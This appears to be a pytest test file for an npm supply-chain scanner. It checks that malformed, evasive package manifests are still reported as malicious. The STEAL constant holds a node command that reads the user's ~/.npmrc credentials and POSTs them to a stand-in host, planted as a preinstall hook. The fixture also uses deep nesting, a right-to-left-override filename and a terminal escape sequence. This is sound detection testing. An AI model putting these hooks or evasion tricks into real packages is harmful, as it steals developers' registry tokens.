"""No bytes of a package lose the report of what it did."""

from __future__ import annotations

import io
import json
import tarfile
from pathlib import Path
from typing import Any

import pytest

from tests.support import requires
from tests.support.hunter import npm_project, scan_json

STEAL = "node -e \"fetch('http://collect.example/',{method:'POST',body:require('fs').readFileSync(process.env.HOME+'/.npmrc')})\""


@pytest.fixture(scope="module", autouse=True)
def _host() -> None:
    requires.needs_runc()


def kinds_by_package(report: dict[str, Any]) -> dict[str, set[str]]:
    found: dict[str, set[str]] = {}
    for finding in report["findings"]:
        package = (finding["blame"] or {}).get("package") or ""
        found.setdefault(package.partition("@")[0], set()).add(finding["kind"])
    return found


def test_a_bundled_package_s_version_is_half_a_character(tmp_path: Path) -> None:
    case = requires.needs_shared("cases/broken-version")
    for name in ("package.json", "evil-1.0.0.tgz"):
        (tmp_path / name).write_bytes((case / name).read_bytes())
    report = scan_json(tmp_path, codes=(1,))
    assert report["verdict"] == "malicious"
    assert any(package["name"] == "inner" for package in report["packages"])


def test_manifests_that_npm_reads_hide_nothing(tmp_path: Path) -> None:
    """A number of 5,000 digits, 20,000 brackets, bytes that are no UTF-8, NUL and reordering: npm takes them all."""
    evil = b"""{"name": "evil", "version": "1.0.0", "scripts": {"preinstall": %s}, "n": %s, "deep": %s,
        "description": "\xff\xfe \\ud800 \\u0000 \\u202e", "author": "\\u001b[2J"}""" % (
        json.dumps(STEAL).encode(),
        b"9" * 5_000,
        b"[" * 20_000 + b"]" * 20_000,
    )
    npm_project(tmp_path, "app", dependencies={"evil": "file:./evil-1.0.0.tgz"})
    with tarfile.open(tmp_path / "evil-1.0.0.tgz", "w:gz") as archive:
        for name, data in (("package.json", evil), ("index.js", b""), ("\u202egpj.js", b"")):
            info = tarfile.TarInfo(f"package/{name}")
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    (tmp_path / "package-hunter.toml").write_text("a = " + "[" * 20_000)
    report = scan_json(tmp_path, codes=(1,))
    assert report["verdict"] == "malicious"
    assert "exfiltration" in kinds_by_package(report)["pkg:npm/evil"]
    assert any("nested too deep" in notice for notice in report["notices"])
